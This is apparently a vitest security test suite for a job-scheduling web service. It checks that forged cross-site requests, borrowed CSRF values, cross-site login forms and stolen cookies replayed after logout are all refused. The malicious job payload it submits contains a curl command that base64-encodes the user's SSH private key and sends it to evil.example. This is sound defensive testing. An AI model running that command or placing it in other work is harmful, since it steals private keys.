/**
 * The browser session attacked: another site makes alice's browser post forms (and fetches)
 * to god with her session cookie attached, as a browser that ignored SameSite would, in every
 * shape a page can send without god's CSRF value; and a cookie stolen from her browser is
 * replayed after she logged out. Nothing may change and nothing may be read.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startGodWeb, type God } from './god.js';
import { differences, snapshot } from './snapshot.js';
import { send, type Answer } from './wire.js';

let god: God;

beforeAll(async () => {
  god = await startGodWeb();
}, 120_000);

afterAll(async () => {
  await god?.stop();
});

interface Session {
  cookie: string;
  csrf: string;
}

async function logIn(key: string): Promise<Session> {
  const a = await send(god.url, {
    method: 'POST',
    path: '/api/v1/auth/session',
    headers: { 'Content-Type': 'application/json' },
    body: Buffer.from(JSON.stringify({ apiKey: key })),
  });
  expect(a.status, a.text).toBe(200);
  const setCookie = ([] as string[]).concat(a.headers['set-cookie'] ?? [])[0]!;
  return { cookie: setCookie.split(';')[0]!, csrf: (JSON.parse(a.text) as Session).csrf };
}

/** A request as another site's page can make a browser send it: cookie on, no CSRF header. */
function forged(
  s: Session,
  method: string,
  path: string,
  type: string,
  body: string,
): Promise<Answer> {
  return send(god.url, {
    method,
    path,
    headers: {
      Cookie: s.cookie,
      Origin: 'https://evil.example',
      Referer: 'https://evil.example/trap.html',
      'Sec-Fetch-Site': 'cross-site',
      ...(type !== '' && { 'Content-Type': type }),
    },
    body: Buffer.from(body),
  });
}

const JOB = JSON.stringify({
  container: { image: 'god-test/busybox:latest' },
  command: { cmd: 'curl https://evil.example/$(cat ~/.ssh/id_rsa | base64)' },
});

describe('cross-site requests with alice’s session cookie', () => {
  it('change nothing, whatever form they take', async () => {
    const alice = await logIn(god.alice.key);
    const job = await god.jobOf(god.alice);
    const before = await snapshot(god.store, god.redis, god.keys);
    const attempts: [string, string, string, string][] = [
      [
        'POST',
        '/api/v1/jobs',
        'application/x-www-form-urlencoded',
        `job=${encodeURIComponent(JOB)}`,
      ],
      ['POST', '/api/v1/jobs', 'text/plain', JOB],
      ['POST', '/api/v1/jobs', 'multipart/form-data; boundary=x', `--x\r\n\r\n${JOB}\r\n--x--`],
      ['POST', '/api/v1/jobs', 'application/json', JOB],
      ['POST', `/api/v1/jobs/${job.id}/hold`, 'application/x-www-form-urlencoded', ''],
      ['POST', `/api/v1/jobs/${job.id}/kill`, 'text/plain', ''],
      ['DELETE', `/api/v1/jobs/${job.id}`, '', ''],
      ['POST', '/api/v1/keys', 'application/json', '{"name":"mine now"}'],
      ['POST', '/api/v1/auth/token', 'text/plain', ''],
      ['DELETE', '/api/v1/auth/session', '', ''],
      ['POST', '/api/1.0/task', 'application/json', JOB],
    ];
    for (const [method, path, type, body] of attempts) {
      const a = await forged(alice, method, path, type, body);
      const what = `${method} ${path} (${type})`;
      // 403 for god's API (the CSRF header), 401 for GO-Docker's (it ignores the cookie).
      expect(a.status, what).toBe(path.startsWith('/api/1.0/') ? 401 : 403);
      expect(a.text, what).not.toMatch(/"(key|token)":/);
    }
    expect(differences(before, await snapshot(god.store, god.redis, god.keys))).toEqual([]);
    // The oracle can fail: the same session with its CSRF value does change things.
    const held = await send(god.url, {
      method: 'POST',
      path: `/api/v1/jobs/${job.id}/hold`,
      headers: { Cookie: alice.cookie, 'X-CSRF-Token': alice.csrf },
    });
    expect(held.status, held.text).toBe(200);
    expect(differences(before, await snapshot(god.store, god.redis, god.keys))).not.toEqual([]);
  });

  it('cannot borrow the CSRF value of the attacker’s own session', async () => {
    const alice = await logIn(god.alice.key);
    const bob = await logIn(god.bob.key);
    const before = await snapshot(god.store, god.redis, god.keys);
    const a = await send(god.url, {
      method: 'POST',
      path: '/api/v1/jobs',
      headers: {
        Cookie: alice.cookie,
        'X-CSRF-Token': bob.csrf,
        'Content-Type': 'application/json',
      },
      body: Buffer.from(JOB),
    });
    expect(a.status).toBe(403);
    expect(differences(before, await snapshot(god.store, god.redis, god.keys))).toEqual([]);
  });
});

describe('a cross-site login form', () => {
  it('cannot log alice’s browser into the attacker’s session', async () => {
    // A form can send text/plain or urlencoded bodies only; god reads JSON only, and a
    // cross-site fetch with a JSON body needs a CORS preflight that god never grants.
    for (const [type, body] of [
      ['text/plain', JSON.stringify({ apiKey: god.bob.key })],
      ['application/x-www-form-urlencoded', `apiKey=${encodeURIComponent(god.bob.key)}`],
    ]) {
      const a = await send(god.url, {
        method: 'POST',
        path: '/api/v1/auth/session',
        headers: { 'Content-Type': type!, Origin: 'https://evil.example' },
        body: Buffer.from(body!),
      });
      expect(a.status, type).toBe(400);
      expect(a.headers['set-cookie'], type).toBeUndefined();
    }
    const preflight = await send(god.url, {
      method: 'OPTIONS',
      path: '/api/v1/auth/session',
      headers: {
        Origin: 'https://evil.example',
        'Access-Control-Request-Method': 'POST',
        'Access-Control-Request-Headers': 'content-type',
      },
    });
    expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
  });
});

describe('a session cookie stolen from alice’s browser', () => {
  it('is refused everywhere once she logged out', async () => {
    const alice = await logIn(god.alice.key);
    const out = await send(god.url, {
      method: 'DELETE',
      path: '/api/v1/auth/session',
      headers: { Cookie: alice.cookie, 'X-CSRF-Token': alice.csrf },
    });
    expect(out.status).toBe(204);
    const before = await snapshot(god.store, god.redis, god.keys);
    const replays: [string, string][] = [
      ['GET', '/api/v1/auth/session'],
      ['GET', '/api/v1/jobs'],
      ['GET', '/api/v1/events'],
      ['GET', '/api/v1/auth/me'],
      ['POST', '/api/v1/jobs'],
      ['POST', '/api/v1/auth/token'],
    ];
    for (const [method, path] of replays) {
      const a = await send(god.url, {
        method,
        path,
        headers: {
          Cookie: alice.cookie,
          'X-CSRF-Token': alice.csrf,
          'Content-Type': 'application/json',
        },
        body: method === 'POST' ? Buffer.from(JOB) : null,
        timeoutMs: 5_000,
      });
      expect(a.status, `${method} ${path}`).toBe(401);
    }
    // Nor is it an Authorization: the token in it was revoked with the session.
    const token = decodeURIComponent(alice.cookie.slice('god_session='.length));
    const bearer = await send(god.url, {
      method: 'GET',
      path: '/api/v1/jobs',
      headers: { Authorization: `Bearer ${token}` },
    });
    expect(bearer.status).toBe(401);
    expect(differences(before, await snapshot(god.store, god.redis, god.keys))).toEqual([]);
  });
});
